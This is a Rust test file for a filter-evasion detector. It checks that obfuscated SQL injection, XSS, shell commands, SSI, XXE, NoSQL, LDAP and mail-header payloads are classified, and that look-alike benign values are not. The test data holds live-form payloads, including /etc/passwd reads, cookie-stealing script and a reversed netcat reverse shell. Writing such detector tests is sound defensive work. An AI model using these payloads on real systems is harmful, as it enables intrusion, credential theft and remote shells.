//! Tests of [`super`] against payloads written to slip past filters (SQL, script and shell
//! obfuscations, inclusions, entities, mail commands, character references with leading zeros),
//! and the ordinary values that look like them.

use super::tests::query;

/// The evasions WAF test tools send (GoTestWAF's cases, read after they missed): comments and
/// version comments around keywords, spaceless select lists, double encoding with `+`.
#[test]
fn sql_written_to_slip_past_filters_is_sql() {
    for q in [
        "id=%252f%252a%252a%252f%2575%256e%2569%256f%256e%252f%252a%252a%252f%2573%2565%256c%2565%2563%2574",
        "q=-1945%2B%2F%2A%21%2555NiOn%2A%2F%2520%2F%2A%21%2553eLEct%2A%2F%2B1%2C2%2C3--",
        "s=/**8**/and/**8**/0/**8**//*!50000union*//**8**//*!50000select*//**8**/+1",
        "q=SELECT@^1.FROM`test`",
        "q=SELECT-1e1FROM`test`",
        "q=%22union%20select%20-7431.1%2C%20name%2C%20%40aaa%20from%20u_base--w-",
        "q=%27or%20123.22%3D123.22",
        "id=%0A%0d+select+user+from+dual+%0A%0D",
    ] {
        assert_eq!(query(q), Some("sql"), "{q}");
    }
}

/// Markup spelled with character references, handlers right after a closed quote, dialogs
/// called indirectly.
#[test]
fn script_written_to_slip_past_filters_is_script() {
    for q in [
        "q=%26lt;svg/onload%26equals;alert(1)%26gt;",
        "q=%3CIMG%20SRC%3Dj%26%23X41vascript:alert('test')%3E",
        "q=%3Ca%20href%3Djavas%26%2399;ript:prompt%26%23x28document.domain)%3Exss",
        "lang=%22onClick=%22(prompt)(1)",
        "q=%22onwheel=ead(111)",
        "q=alert.call(null,1)",
        "q=confirm.apply(null,[1])",
        "q=alert?.(document?.cookie)",
        "q=[1].some(confirm)",
        "q=document[%22cookie%22]",
        "q=%3Cimg/src=x/onerror=xxx",
    ] {
        assert_eq!(query(q), Some("script"), "{q}");
    }
}

/// Commands as a shell reads them: quotes and unset variables dropped, globs, substitution.
#[test]
fn shell_written_to_slip_past_filters_is_shell() {
    for q in [
        "f=;+cat+/et%27c/pa%27ss%27wd",
        "t=;+$u+cat+/etc$u/passwd$u",
        "f=/??c/?asswd",
        "f=/???/??t+/???/??ss??",
        "f=/e*c/*asswd",
        "f=$(printf+%27hsab/nib/+e-+4321+1.0.0.721+cn%27|rev)",
        "x=--exec=`id`--remote=origin",
        "k=|+set+/a+3482*7301",
        "c=cat${IFS}/etc/passwd",
    ] {
        assert_eq!(query(q), Some("shell"), "{q}");
    }
}

/// Server-side includes and XML entities are code; NoSQL and LDAP filters are a query; mail
/// commands after a line break are a header.
#[test]
fn includes_entities_queries_and_mail_commands() {
    for (q, lang) in [
        ("x=%3C!--%23exec%20cmd=%22ls%22%20--%3E", "code"),
        ("x=%3C!--%23include%20file=%22/etc/passwd%22--%3E", "code"),
        (
            "x=%3C!DOCTYPE+x+[+%3C!ENTITY+%25+y+SYSTEM+%22//y/y%22%3E+%25y;+]%3E",
            "code",
        ),
        (
            "x=%3C!DOCTYPE+x+SYSTEM+%22//x/x%22%3E%3Cx%3Ea%3C/x%3E",
            "code",
        ),
        ("q=true,+$where:+%2799+==+88%27", "query"),
        ("q=db.injection.insert({success:1});", "query"),
        ("q=%27,+$or:+[+{},+{+%27order%27:%27order", "query"),
        ("user=admin)(|(uid=*", "query"),
        ("user=*)(objectClass=*", "query"),
        ("user=admin*)((|userpassword=*)", "query"),
        ("q=*(|(objectclass=*))", "query"),
        ("q=userPassword:2.5.13.18:=123", "query"),
        ("q=%0ARCPT%20TO:%20test@evil.com%0A", "header"),
        ("q=%0AV100%20CAPABILITY%0AV101%20FETCH%204791", "header"),
        ("q=%0AHELO+mail.attacker.example%0AQUIT", "header"),
    ] {
        assert_eq!(query(q), Some(lang), "{q}");
    }
}

/// What the readings and shapes above must leave alone: ordinary text with references,
/// apostrophes and dollars, jQuery, Strapi's and Parse's filters, globs in file names, HTML.
#[test]
fn the_new_readings_leave_ordinary_values_alone() {
    for q in [
        "q=Tom%26amp;Jerry",
        "q=%26lt;b%26gt;bold%26lt;/b%26gt;",
        "q=caf%26eacute;",
        "q=it%27s+a+cat%27s+life",
        "q=price+$5+or+$10",
        "q=$(document).ready",
        "q=$(this).hide()",
        "filters[price][$gt]=10&filters[title][$contains]=shoe",
        "where=%7B%22score%22:%7B%22$gt%22:1000%7D%7D",
        "q=*.txt",
        "path=/home/*/docs",
        "q=select-a-plan-from+the+list",
        "q=selection+from+%60stock%60",
        "q=(a+OR+b)+AND+(c)",
        "q=%3C!DOCTYPE+html%3E",
        "q=%3C!--+comment+--%3E",
        "q=Data%0Ais+here",
        "q=what+does+alert+do",
        "q=%22one%22+%22two%22",
        "q=O%27Reilly",
        "q=set+/a+var",
        "q=5+%2B+3",
    ] {
        assert_eq!(query(q), None, "{q}");
    }
}

/// Ordinary values a reviewer built against the shapes above (each flagged by their first
/// version): words on the lines of a text area, JSON filters of Parse and RESTHeart, GraphQL
/// variables, ORM calls in a code search, Make and TeX, jQuery and JavaScript defaults, W3C
/// doctypes and comments, whole LDAP filters and C conditions, Markdown inline code, globstar
/// patterns, i18n strings, method chains, grades, course names, Doxygen comments, a cmd tutorial.
#[test]
fn ordinary_values_that_look_like_the_new_shapes_stay_quiet() {
    for q in [
        "tags=python%0D%0Adata%0D%0Ascience",
        "title=Big%0D%0AData",
        "body=Sorry%0D%0AQuit",
        "notes=Step1%0AA1+select+the+cell",
        "where=%7B%22playerName%22:%22Sean%22,%22$or%22:[%7B%22a%22:1%7D]%7D",
        "filter=%7B%27name%27:%27x%27,%27$or%27:[]%7D",
        "query=query+Q($where:+users_bool_exp!)+%7B+users(where:+$where)+%7B+id+%7D+%7D",
        "q=db.session.delete(user)",
        "q=$(shell+git+describe+--tags)",
        "q=$(wildcard+src/*.c)",
        "q=echo+$(date+%2B%25s)",
        "q=docker+rm+$(docker+ps+-aq)",
        "q=$(AB+%2B+CD)$",
        "q=$(%27div+p%27).hide()",
        "q=$(%22table+tr%22).each(fn)",
        "q=$(%5Calpha+%2B+%5Cbeta)%5E2$",
        "q=const+key+=+opts.key+||+%27id%27;",
        "q=x+=+a+||+%27ls%27",
        "q=%3C!DOCTYPE+html+PUBLIC+%22-//W3C//DTD+XHTML+1.0+Transitional//EN%22%3E",
        "q=%3C!DOCTYPE+html+SYSTEM+%22about:legacy-compat%22%3E",
        "q=%3C!DOCTYPE+note+SYSTEM+%22Note.dtd%22%3E",
        "q=%3C!--+%23+Config+section+--%3E",
        "filter=(%26(objectClass=person)(uid=jdoe))",
        "filter=(|(cn=John*)(mail=john*))",
        "q=if+(!(p+=+malloc(n)))",
        "q=while+(!(i+%3E=+n))",
        "q=%60id%60+column",
        "q=rename+%60id%60+to+%60user_id%60",
        "q=the+%60env%60+file",
        "glob=/**/*.js",
        "include=/*/*.md",
        "q=Password+(confirm)+(required)",
        "q=items.filter(confirm)",
        "q=text.find(prompt)",
        "q=%22GPA%22+and+3.5+%3E=+3.0",
        "q=select+courses+from+dual+credit",
        "q=/*!+Update+the+cache+*/",
        "q=set+/a+5*3",
    ] {
        assert_eq!(query(q), None, "{q}");
    }
}

/// What the reviewer found missed: character references with leading zeros.
#[test]
fn references_with_leading_zeros_are_read() {
    assert_eq!(
        query("u=%3Ca+href=%22%26%2300000106;avascript:alert(1)%22%3E"),
        Some("script")
    );
}
